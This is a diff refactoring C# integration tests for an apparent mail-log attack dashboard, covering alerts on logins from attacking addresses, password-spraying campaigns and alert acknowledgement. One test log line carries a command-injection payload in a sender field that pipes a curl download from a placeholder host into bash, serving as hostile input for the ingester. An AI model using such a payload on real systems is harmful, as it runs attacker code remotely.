@@ -1,13 +1,9 @@
 using System.Globalization;
 using System.Net;
 using System.Text.Json;
-using AttackDash.Ingestion.Hosting;
 using AttackDash.Operations;
 using AttackDash.Operations.Alerts;
 using AttackDash.Storage.Alerts;
-using AttackDash.Storage.Hosting;
-using Microsoft.Extensions.Configuration;
-using Microsoft.Extensions.DependencyInjection;
 using Microsoft.Extensions.Hosting;
 
 namespace AttackDash.Storage.IntegrationTests;
@@ -21,12 +17,8 @@ public sealed class AlertTests(PostgresFixture pg)
     [Fact]
     public async Task A_login_from_a_client_that_attacked_raises_one_alert_and_the_same_lines_raise_nothing_again()
     {
-        var cs = await pg.NewDatabaseAsync();
-        using var dir = new TempDir();
         var now = DateTimeOffset.UtcNow;
-        var log = dir.File("maillog");
-        await File.WriteAllLinesAsync(log,
-        [
+        var (_, alerts) = await IngestedAsync([
             AttackLines.AuthSuccess(now.AddDays(-400), "185.220.101.7", "admin"),   // history, not news
             .. Enumerable.Range(0, 3).Select(i => AttackLines.AuthFailure(now.AddMinutes(-10).AddSeconds(i), "185.220.101.7", "admin")),
             AttackLines.AuthSuccess(now.AddMinutes(-5), "185.220.101.7", "admin"),
@@ -34,8 +26,6 @@ public sealed class AlertTests(PostgresFixture pg)
             AttackLines.AuthSuccess(now.AddMinutes(-5), "62.233.50.9", "alice"),            // never attacked: no alert
             AttackLines.Line(now.AddMinutes(-3), "5392CiAa003103: from=<$(curl -s http://x.example/a|bash)@x>, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=[185.220.101.6]"),
         ]);
-        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
-        var alerts = new AlertService(Store.Of(cs));
 
         var raised = await alerts.RaiseAsync(now.AddMinutes(-15), Rules);
 
@@ -50,18 +40,12 @@ public sealed class AlertTests(PostgresFixture pg)
     [Fact]
     public async Task A_campaign_is_raised_once_per_username_and_a_login_with_its_username_from_a_clean_address_is_a_possible_compromise()
     {
-        var cs = await pg.NewDatabaseAsync();
-        using var dir = new TempDir();
         var now = DateTimeOffset.UtcNow;
-        var log = dir.File("maillog");
-        await File.WriteAllLinesAsync(log,
-        [
+        var (_, alerts) = await IngestedAsync([
             .. Enumerable.Range(1, 5).Select(i => AttackLines.AuthFailure(now.AddMinutes(-6).AddSeconds(i), $"185.220.101.{i}", "sales")),
             .. Enumerable.Range(0, 12).Select(i => AttackLines.AuthFailure(now.AddMinutes(-20).AddSeconds(i), "45.155.205.3", $"u{i}")),
             AttackLines.AuthSuccess(now.AddMinutes(-1), "62.233.50.9", "sales"),   // never attacked: the stolen password worked
         ]);
-        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
-        var alerts = new AlertService(Store.Of(cs));
         var rules = Rules with { HeavyHitterEvents = 10 };
 
         var raised = await alerts.RaiseAsync(now.AddMinutes(-15), rules);
@@ -78,13 +62,8 @@ public sealed class AlertTests(PostgresFixture pg)
     [Fact]
     public async Task Acknowledging_an_alert_is_audited_once_and_closes_it()
     {
-        var cs = await pg.NewDatabaseAsync();
-        using var dir = new TempDir();
         var now = DateTimeOffset.UtcNow;
-        var log = dir.File("maillog");
-        await File.WriteAllLinesAsync(log, [AttackLines.AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AttackLines.AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
-        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
-        var alerts = new AlertService(Store.Of(cs));
+        var (cs, alerts) = await IngestedAsync([AttackLines.AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AttackLines.AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
         var id = (await alerts.RaiseAsync(now.AddMinutes(-15), Rules)).Single().Id;
 
         Assert.True(await alerts.AcknowledgeAsync(id, "admin"));
@@ -171,6 +150,17 @@ public sealed class AlertTests(PostgresFixture pg)
         Assert.Contains("https://attackdash.example.org/alerts", mail, StringComparison.Ordinal);
     }
 
+    /// <summary>A new store holding <paramref name="lines"/>, ingested by the CLI, and its alert service.</summary>
+    private async Task<(string Cs, AlertService Alerts)> IngestedAsync(IEnumerable<string> lines)
+    {
+        var cs = await pg.NewDatabaseAsync();
+        using var dir = new TempDir();
+        var log = dir.File("maillog");
+        await File.WriteAllLinesAsync(log, lines);
+        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
+        return (cs, new AlertService(Store.Of(cs)));
+    }
+
     [Theory]
     [InlineData("Alerts:Kinds:0", "everything", "Alerts:Kinds: 'everything' is not one of")]
     [InlineData("Alerts:Webhook:Url", "ftp://hooks.example.org/x", "is not an http or https address")]
@@ -182,15 +172,9 @@ public sealed class AlertTests(PostgresFixture pg)
         Assert.Contains(message, e.Message, StringComparison.Ordinal);
     }
 
-    private static IHost BuildHost(Dictionary<string, string?> settings)
+    private static IHost BuildHost(Dictionary<string, string?> settings) => TestHosts.Build(settings, (services, configuration) =>
     {
-        var builder = Host.CreateApplicationBuilder();
-        builder.Configuration.Sources.Clear();
-        builder.Configuration.AddInMemoryCollection(settings);
-        builder.Services.AddAttackDashStorage(builder.Configuration);
-        builder.Services.AddAttackDashIngestion(builder.Configuration);
-        builder.Services.AddAttackDashReview(builder.Configuration);
-        builder.Services.AddAttackDashAlerts(builder.Configuration);
-        return builder.Build();
-    }
+        services.AddAttackDashReview(configuration);
+        services.AddAttackDashAlerts(configuration);
+    });
 }
